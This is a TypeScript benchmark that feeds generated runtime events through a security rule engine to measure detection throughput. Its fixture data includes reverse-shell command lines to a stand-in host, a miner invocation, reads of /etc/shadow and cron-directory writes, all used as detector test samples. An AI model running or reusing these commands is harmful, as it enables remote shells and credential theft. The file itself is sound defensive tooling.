/**
 * Rule engine throughput: a generated stream of 1,000,000 RuntimeEvents (execs, opens, connects,
 * listens, renames/unlinks/chmods, setuid, ptrace; containers and host; about 1% suspicious) through the
 * shipped default rules plus extra rules written here (21 rules in all), against the floor measured in
 * the same run: the same loop reading one field (proc.name) per event and nothing else.
 *
 * Prints events/s and events per CPU-second (the engine is single-threaded, so that is per core) for
 * the floor and the engine, the alert count, and the engine's cost per event over the floor. Goal:
 * at least 1,000,000 events/s/core (median of BENCH_RUNS passes after a warm-up). Runs in a few seconds.
 *
 * Run: node --import tsx bench/runtime-rules.bench.ts      (BENCH_EVENTS, BENCH_RUNS to change)
 * Exit status: 0 goal met, 1 missed, 2 the bench could not run.
 */
import type { RuntimeEvent } from '../src/runtime/events.js';
import { DEFAULT_RULES_FILE, EventView, RuleEngine, compileRuleSources } from '../src/runtime/rules/index.js';
import { readFile } from 'node:fs/promises';
import { renderTable } from './support/table.js';
import { seededRandom } from '../test/support/osv-generate.js';
import { benchExtraRules } from './support/runtime-rules.js';

const EVENTS = Math.max(1, Number(process.env['BENCH_EVENTS'] ?? 1_000_000) || 1_000_000);
const RUNS = Math.max(1, Number(process.env['BENCH_RUNS'] ?? 5) || 5);
// Distinct generated events, streamed round-robin (the stream is EVENTS long). A power of two. Small
// enough to stay in cache, as a live event does (a sensor hands each event over just after building it):
// a 64k pool measures memory latency, ~300 ns per event on the floor alone, not the engine.
const POOL = 2 ** Math.round(Math.log2(Math.max(1, Number(process.env['BENCH_POOL'] ?? 4096) || 4096)));
const GOAL = 1_000_000;

const EXTRA_RULES = benchExtraRules([53, 80, 443, 5432, 6379, 8080]);

function generate(n: number): RuntimeEvent[] {
  const r = seededRandom(9);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const containers = Array.from({ length: 20 }, (_, i) => ({
    id: i.toString(16).padStart(2, '0').repeat(32),
    name: `app-${i}`,
    imageRepository: `registry.example/team/app${i % 7}`,
    imageTag: '1.0',
  }));
  const normalExecs: string[][] = [
    ['node', 'server.js'], ['nginx', '-g', 'daemon off;'], ['python3', '-m', 'gunicorn', 'app:app'], ['cat', '/app/config.json'],
    ['ls', '-la', '/app'], ['curl', '-fsS', 'http://127.0.0.1:8080/health'], ['java', '-jar', '/app/app.jar'], ['date'],
  ];
  const badExecs: string[][] = [
    ['bash', '-c', 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'], ['apt-get', 'install', '-y', 'nmap'], ['nc', '-e', '/bin/sh', '10.9.9.9', '4444'],
    ['sh', '-c', 'id'], ['xmrig', '--donate-level', '1'],
  ];
  const readPaths = ['/app/config.json', '/etc/passwd', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/etc/hosts', '/proc/self/status', '/app/static/index.html'];
  const writePaths = ['/var/log/app.log', '/tmp/upload-1', '/app/data/cache.db', '/var/lib/app/state', '/dev/null'];
  const badFiles: [RuntimeEvent['type'], string][] = [['open_read', '/etc/shadow'], ['open_write', '/usr/bin/evil'], ['open_write', '/etc/cron.d/x'], ['unlink', '/root/.bash_history']];
  const out: RuntimeEvent[] = [];
  for (let i = 0; i < n; i++) {
    const bad = r() < 0.01;
    const container = r() < 0.85 ? pick(containers) : undefined;
    const pid = 1000 + Math.floor(r() * 30000);
    const kind = r();
    // Built as a sensor builds events: one literal, optional parts assigned after. (Object spread here
    // gave nearly every event its own hidden class, 4,072 maps for 4,096 events, which made every
    // property read a megamorphic miss: 2 µs per event for reading the event alone.)
    const base = (type: RuntimeEvent['type'], proc: RuntimeEvent['proc'], extra: Pick<RuntimeEvent, 'file' | 'net' | 'arg'> = {}): RuntimeEvent => {
      const ev: RuntimeEvent = { time: 1_700_000_000_000 + i, type, sensor: 'synthetic', proc };
      if (extra.file) ev.file = extra.file;
      if (extra.net) ev.net = extra.net;
      if (extra.arg !== undefined) ev.arg = extra.arg;
      if (container) ev.container = container;
      return ev;
    };
    if (kind < 0.3) {
      const args = [...pick(bad ? badExecs : normalExecs)];
      const name = args[0]!;
      out.push(
        base('exec', { pid, ppid: pid - 1, name, exepath: r() < 0.02 ? `/tmp/${name}` : `/usr/bin/${name}`, args, pname: pick(['containerd-shim', 'node', 'bash', 'nginx']), uid: r() < 0.5 ? 0 : 1000, tty: bad && r() < 0.5 }),
      );
    } else if (kind < 0.62) {
      const [type, path] = bad ? pick(badFiles) : r() < 0.6 ? (['open_read', pick(readPaths)] as const) : (['open_write', pick(writePaths)] as const);
      out.push(base(type, { pid, name: pick(['node', 'nginx', 'python3', 'cat']), args: ['x'], uid: 1000 }, { file: { path } }));
    } else if (kind < 0.9) {
      const dip = bad ? pick(['169.254.169.254', '10.96.0.1', '10.9.9.9']) : pick(['127.0.0.1', '10.0.0.12', '10.0.0.13', '172.17.0.3']);
      const dport = bad ? pick([80, 6443, 4444]) : pick([5432, 6379, 80, 443, 8080]);
      out.push(
        base(r() < 0.8 ? 'connect' : 'accept', { pid, name: bad ? pick(['bash', 'nc', 'curl']) : pick(['node', 'java', 'python3', 'nginx']), args: ['x'], uid: 1000 }, {
          net: { protocol: 'tcp', sip: '172.17.0.2', sport: 30000 + (i % 30000), dip, dport },
        }),
      );
    } else {
      const t = pick(['listen', 'rename', 'chmod', 'unlink', 'setuid', 'ptrace', 'exit'] as const);
      const proc = { pid, name: pick(['node', 'sudo', 'python3']), args: ['x'], uid: r() < 0.5 ? 0 : 1000 };
      if (t === 'listen') out.push(base(t, proc, { net: { protocol: 'tcp', sip: '0.0.0.0', sport: pick([80, 8080, 3000, 443]) } }));
      else if (t === 'setuid' || t === 'ptrace') out.push(base(t, proc, { arg: r() < 0.1 ? 0 : 1000 }));
      else if (t === 'exit') out.push(base(t, proc));
      else out.push(base(t, proc, { file: { path: pick(['/app/data/a', '/tmp/x', '/var/log/app.log.1']), target: '/app/data/b' } }));
    }
  }
  return out;
}

interface Pass {
  wallMs: number;
  cpuMs: number;
  result: number;
}

function measure(pool: RuntimeEvent[], fn: (ev: RuntimeEvent) => number): Pass {
  const cpu0 = process.cpuUsage();
  const t0 = performance.now();
  let result = 0;
  const mask = pool.length - 1;
  for (let i = 0; i < EVENTS; i++) result += fn(pool[i & mask]!);
  const wallMs = performance.now() - t0;
  const cpu = process.cpuUsage(cpu0);
  return { wallMs, cpuMs: (cpu.user + cpu.system) / 1000, result };
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

async function main(): Promise<number> {
  const rules = compileRuleSources([
    { file: DEFAULT_RULES_FILE, text: await readFile(DEFAULT_RULES_FILE, 'utf8') },
    { file: 'bench-extra.yaml', text: EXTRA_RULES },
  ]);
  const engine = new RuleEngine(rules);
  const pool = generate(POOL);
  const floorFn = (ev: RuntimeEvent): number => (ev.proc?.name === 'zz' ? 1 : 0);
  const view = new EventView();
  const flattenFn = (ev: RuntimeEvent): number => (view.load(ev).procName === 'zz' ? 1 : 0);
  const engineFn = (ev: RuntimeEvent): number => engine.evaluate(ev).length;

  // Warm-up (JIT) on both paths.
  for (let i = 0; i < 200_000; i++) {
    floorFn(pool[i % POOL]!);
    flattenFn(pool[i % POOL]!);
    engineFn(pool[i % POOL]!);
  }
  const floor: Pass[] = [];
  const flat: Pass[] = [];
  const eng: Pass[] = [];
  for (let run = 0; run < RUNS; run++) {
    floor.push(measure(pool, floorFn));
    flat.push(measure(pool, flattenFn));
    eng.push(measure(pool, engineFn));
  }
  const alerts = eng[0]!.result;
  const row = (name: string, passes: Pass[]): [string[], number] => {
    const wall = median(passes.map((p) => p.wallMs));
    const cpu = median(passes.map((p) => p.cpuMs));
    const perCore = EVENTS / (cpu / 1000);
    return [[name, `${(wall / 1000).toFixed(3)} s`, `${Math.round(EVENTS / (wall / 1000)).toLocaleString('en-US')}`, Math.round(perCore).toLocaleString('en-US'), `${((wall * 1e6) / EVENTS).toFixed(0)} ns`], perCore];
  };
  const [floorRow] = row('floor (read proc.name)', floor);
  const [flatRow] = row('flatten only (EventView.load)', flat);
  const [engineRow, enginePerCore] = row(`engine (${engine.rules.length} rules)`, eng);
  process.stdout.write(
    `${EVENTS.toLocaleString('en-US')} events (pool of ${POOL.toLocaleString('en-US')} generated, round-robin), ${engine.rules.length} rules, median of ${RUNS}\n\n` +
      renderTable(['pass', 'wall', 'events/s', 'events/s/core (CPU time)', 'per event'], [floorRow, flatRow, engineRow]) +
      `\n\nalerts raised per ${EVENTS.toLocaleString('en-US')} events: ${alerts.toLocaleString('en-US')}\n` +
      `engine over floor: ${((median(eng.map((p) => p.wallMs)) - median(floor.map((p) => p.wallMs))) * 1e6 / EVENTS).toFixed(0)} ns/event\n` +
      `goal: >= ${GOAL.toLocaleString('en-US')} events/s/core: ${enginePerCore >= GOAL ? 'met' : 'MISSED'}\n`,
  );
  return enginePerCore >= GOAL ? 0 : 1;
}

main().then(
  (code) => process.exit(code),
  (e: unknown) => {
    process.stderr.write(`bench could not run: ${e instanceof Error ? e.stack : String(e)}\n`);
    process.exit(2);
  },
);
